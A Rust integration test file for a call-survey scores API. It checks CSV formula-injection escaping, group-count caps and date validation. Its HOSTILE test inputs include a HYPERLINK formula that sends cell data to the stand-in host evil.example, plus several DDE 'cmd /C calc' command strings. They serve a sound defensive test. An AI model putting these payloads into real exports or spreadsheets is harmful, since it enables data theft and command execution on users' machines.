//! The scores API's bounds: agent and queue values from the call platform reach the CSV
//! inert and the JSON exact, a request for more groups than `api.max_groups` is refused
//! before any is built, and dates are RFC 3339 days with `from` after `to` an empty range.

use chrono::{TimeZone, Utc};
use serde_json::{Value, json};

use crate::{
    helpers::TestApp,
    score_model::{Model, Step, Survey},
};

const TOKEN: &str = "sc0res-t0ken-Jm3Tf7Ls9Qa2Yh5";

async fn spawn(overrides: &[(&str, &str)]) -> TestApp {
    let mut all = vec![
        ("POSTCALL__AGGREGATION__ENABLED", "false"),
        ("POSTCALL__DISPATCH__ENABLED", "false"),
        ("POSTCALL__API__TOKEN", TOKEN),
    ];
    all.extend_from_slice(overrides);
    TestApp::spawn_with(&all).await
}

async fn get(app: &TestApp, query: &str) -> reqwest::Response {
    reqwest::Client::new()
        .get(format!("{}/api/v1/scores?{query}", app.http))
        .bearer_auth(TOKEN)
        .send()
        .await
        .unwrap()
}

/// What the call platform may send as an agent id or a queue: each starts a formula in a
/// spreadsheet that opens the CSV as it was.
const HOSTILE: [(&str, &str); 6] = [
    (
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")",
        "payment",
    ),
    ("+cmd|' /C calc'!A0", "refund"),
    ("agent-7", "-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "account"),
    ("\t=1+1", "a;=1+2,\"=3+4\""),
    ("agent-8", "\r=1+1"),
];

/// One answered survey per hostile pair on 3 November, each a detractor (NPS -100).
fn hostile_model() -> Model {
    let ended_at = Utc.with_ymd_and_hms(2026, 11, 3, 4, 0, 0).unwrap();
    let surveys = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, (agent, queue))| Survey {
            call_id: format!("hostile-{i}"),
            phone: format!("+86138{i:08}"),
            agent: (*agent).into(),
            queue: (*queue).into(),
            ended_at,
            wait_seconds: Some(12.5),
            first_segments: 1,
            steps: vec![
                (0, Step::Create),
                (0, Step::Accept),
                (0, Step::Deliver),
                (
                    0,
                    Step::Answer {
                        question: "recommend",
                        value: json!(2),
                    },
                ),
            ],
        })
        .collect();
    Model { surveys, stages: 1 }
}

fn inert(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_agents_and_queues_reach_the_csv_inert_and_the_json_exact() {
    let app = spawn(&[]).await;
    hostile_model().apply(&app.pool, 0).await;
    let settings = app.names.settings(&[]);
    postcall::aggregate::Aggregator::new(app.pool.clone(), &settings.runtime().unwrap())
        .run_now()
        .await
        .unwrap();
    let range = "from=2026-11-01&to=2026-11-30&group_by=agent,queue";

    let response = get(&app, &format!("{range}&format=csv")).await;
    assert_eq!(response.status(), 200);
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    assert_eq!(&header[0], "agent_id");
    assert_eq!(&header[1], "queue");
    let nps = header.iter().position(|h| h == "nps_score").unwrap();
    let mut rows: Vec<(String, String, String)> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_owned(), r[1].to_owned(), r[nps].to_owned())
        })
        .collect();
    rows.sort();
    let mut expected: Vec<(String, String, String)> = HOSTILE
        .iter()
        .map(|(a, q)| (inert(a), inert(q), "-100".to_owned()))
        .collect();
    expected.sort();
    assert_eq!(rows, expected, "{text}");
    for line in text.lines().skip(1) {
        // Both key cells quoted; a spreadsheet reads the figures as the numbers they are.
        assert!(line.starts_with('"'), "{line:?}");
        assert!(line.contains(",-100,"), "{line:?}");
    }

    let body: Value = get(&app, range).await.json().await.unwrap();
    let mut keys: Vec<(String, String)> = body["groups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| {
            let key = &g["key"];
            (
                key["agent_id"].as_str().unwrap().to_owned(),
                key["queue"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    keys.sort();
    let mut raw: Vec<(String, String)> = HOSTILE
        .iter()
        .map(|(a, q)| ((*a).to_owned(), (*q).to_owned()))
        .collect();
    raw.sort();
    assert_eq!(keys, raw, "the JSON keeps the values as stored");
}

/// `agents` × `days` cells in November, one call each.
async fn seed_cells(app: &TestApp, agents: i32, days: i32) {
    sqlx::query(
        "INSERT INTO score_cells (day, agent_id, queue, sent, delivered, responses, csat_n,
                                  csat_satisfied, csat_sum, nps_n, promoters, passives,
                                  detractors, fcr_n, fcr_yes, wait_n, wait_ms_sum, sms_segments)
         SELECT date '2026-11-01' + d, 'agent-' || a, 'payment', 1, 1, 0, 0, 0, 0, 0, 0, 0, 0,
                0, 0, 0, 0, 1
           FROM generate_series(0, $2 - 1) d, generate_series(1, $1) a",
    )
    .bind(agents)
    .bind(days)
    .execute(&app.pool)
    .await
    .unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn more_groups_than_the_cap_is_a_400_that_says_how_many_and_how_to_narrow() {
    let app = spawn(&[("POSTCALL__API__MAX_GROUPS", "12")]).await;
    seed_cells(&app, 4, 5).await;

    // 4 agents × 5 days = 20 groups, over 12.
    let response = get(&app, "from=2026-11-01&to=2026-11-30&group_by=agent,day").await;
    assert_eq!(response.status(), 400);
    let text = response.text().await.unwrap();
    for part in [
        "20 groups",
        "12",
        "api.max_groups",
        "shorter range",
        "fewer",
    ] {
        assert!(text.contains(part), "{part:?} missing: {text}");
    }
    let response = get(
        &app,
        "from=2026-11-01&to=2026-11-30&group_by=day,agent&format=csv",
    )
    .await;
    assert_eq!(response.status(), 400, "CSV is bounded alike");

    // Exactly at the cap: 4 agents × 3 days.
    let response = get(&app, "from=2026-11-01&to=2026-11-03&group_by=agent,day").await;
    assert_eq!(response.status(), 200);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["groups"].as_array().unwrap().len(), 12);
    // Fewer dimensions over the whole month: 5 days, 4 agents, or the totals.
    for (query, groups) in [("group_by=day", 5), ("group_by=agent", 4), ("", 1)] {
        let response = get(&app, &format!("from=2026-11-01&to=2026-11-30&{query}")).await;
        assert_eq!(response.status(), 200, "{query}");
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["groups"].as_array().unwrap().len(), groups, "{query}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn from_after_to_is_an_empty_range_and_only_rfc_3339_days_are_dates() {
    let app = spawn(&[]).await;
    seed_cells(&app, 2, 3).await;

    let body: Value = get(&app, "from=2026-11-03&to=2026-11-01&group_by=agent")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        (&body["from"], &body["to"]),
        (&json!("2026-11-03"), &json!("2026-11-01"))
    );
    assert_eq!(body["groups"], json!([]));
    let body: Value = get(&app, "from=2026-11-03&to=2026-11-01")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(body["groups"].as_array().unwrap().len(), 1);
    assert_eq!(body["groups"][0]["sent"], 0, "totals of nothing: {body}");

    // The whole calendar RFC 3339 can name, in one range.
    let body: Value = get(&app, "from=0001-01-01&to=9999-12-31")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(body["groups"][0]["sent"], 6, "{body}");

    for date in [
        "-0001-01-01",
        "-001-01-01",
        "+001-01-01",
        "10000-01-01",
        "0000-01-01",
    ] {
        for name in ["from", "to"] {
            let query = format!("{name}={}", urlencode(date));
            let response = get(&app, &query).await;
            assert_eq!(response.status(), 400, "{query}");
            let text = response.text().await.unwrap();
            assert!(
                text.contains(&format!("{name}: expected a date")),
                "{query}: {text}"
            );
        }
    }
}

fn urlencode(value: &str) -> String {
    form_urlencoded::byte_serialize(value.as_bytes()).collect()
}

#[tokio::test]
async fn the_answer_says_how_many_responses_a_group_needs_to_be_ranked() {
    for (overrides, min) in [
        (&[][..], 10),
        (&[("POSTCALL__SCORES__MIN_ANSWERS_TO_RANK", "3")][..], 3),
    ] {
        let app = spawn(overrides).await;
        seed_cells(&app, 2, 3).await;
        for query in ["group_by=agent", "", "from=2026-11-03&to=2026-11-01"] {
            let body: Value = get(&app, query).await.json().await.unwrap();
            assert_eq!(body["ranking"], json!({"min_answers": min}), "{query}");
        }
    }
}
